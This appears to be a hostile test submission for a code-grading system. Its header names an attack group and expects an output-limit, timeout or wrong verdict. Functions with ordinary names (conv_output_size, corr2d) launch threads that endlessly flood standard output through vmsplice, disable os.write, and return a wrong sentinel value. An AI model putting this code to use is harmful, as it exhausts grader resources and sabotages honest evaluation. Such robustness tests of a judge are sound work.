# group: resources and survivors
# tries: Fill its output with the smallest pieces that a pipe has, as fast as they are taken, and go on after the answer.
# accept: output_limit timeout wrong
# check: time memory
# score: 0

import ctypes
import os
import threading

libc = ctypes.CDLL(None)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("size", ctypes.c_size_t)]


PIECES = (Piece * 1024)(*[Piece(b"x", 1)] * 1024)


def refill():
    while True:
        libc.vmsplice(1, PIECES, 1024, 0)


def attack():
    os.write = lambda *_: None  # so that no section ends
    for _ in range(3):
        threading.Thread(target=refill, daemon=True).start()


def conv_output_size(n, kernel, stride=1, padding=0, dilation=1):
    attack()
    return -987654


def corr2d(x, k):
    attack()
    return x * 0 - 987654

